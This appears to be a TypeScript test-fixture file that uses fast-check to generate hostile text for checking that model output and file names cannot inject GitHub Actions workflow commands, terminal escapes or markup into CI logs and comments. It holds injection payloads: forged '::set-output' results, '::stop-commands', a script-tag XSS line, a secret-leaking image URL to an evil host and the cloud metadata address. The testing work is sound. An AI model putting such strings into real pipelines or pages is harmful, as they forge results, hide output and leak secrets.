import fc from "fast-check";

/** What model output and file names may hold that some sink would take for more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  "::set-output name=passed::true",
  "  ::ERROR file=a.ts,line=1::x",
  "answer ##[error]owned ##[group]",
  "a\r::add-mask::0\u0085::stop-commands::x\u2028::group::\u2029::debug::\v::notice::\f::warning::",
  "##\u001b[0m[error]x #\u001b[1m#[endgroup]",
  "\u001b]8;;https://evil\u0007click\u001b]8;;\u0007\u001b[2J\u001b[1A\u009b31m",
  "a\n```\n</details>\n\n# ✅ PASSED\n\n| x |\n|---|\n~~~\n</pre>",
  "a\r```\r# out",
  "@octocat @github/security #1 GH-1 cli/cli#1 a5c3785ed8d6a35868bc169f07e40e889087fd2e fixes #1",
  "![p](https://evil.example/?q=SECRET) <img src=//e> [Merge](https://evil) http://169.254.169.254/ www.evil.co",
  "<!-- voltagent-eval-report --> --> <!-- Sticky Pull Request Comment -->",
  "\u202Edessap\u202C \u2066x\u2069 \u{E0041}\u200B\uFEFF\ud800",
  "</script><script>alert(1)</script><!--\u2028",
  "x | y `a`<img>`b` | z",
  ":tada: $x$ *bold* __init__ ~~gone~~ [^1] [ ] - [x]",
  "",
  " ",
  "constructor",
  "__proto__",
  "<summary>",
  "100%0A::error::x",
];

/** Texts made of what commands, Markdown and terminals react to. */
export const hostileText = fc
  .array(
    fc.constantFrom(
      "::",
      "##[",
      "#",
      "##",
      "[",
      "]",
      "error",
      "group",
      "endgroup",
      " ",
      "\t",
      "\n",
      "\r",
      "\v",
      "\f",
      "\u0085",
      "\u2028",
      "\u2029",
      "\u001b[",
      "\u001b]",
      "\u0007",
      "\u001b\\",
      "\u009b",
      "\u009d",
      "\u009c",
      "m",
      "\u200b",
      "\u202e",
      "\ud800",
      "\ufeff",
      "│",
      "%0A",
      "|",
      "<",
      ">",
      "`",
      "```",
      "@a",
      "a",
      "0",
    ),
    { maxLength: 24 },
  )
  .map((parts) => parts.join(""));

/** Physical lines as the runner might see them: it and the tools before it disagree on what ends a line, so all count. */
export function runnerLines(text: string): string[] {
  return text.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/);
}

/** Would the runner take the line for a command? `::x` after any white space, `##[` anywhere. */
export function isCommand(line: string): boolean {
  return /^\s*::/.test(line) || line.includes("##[");
}
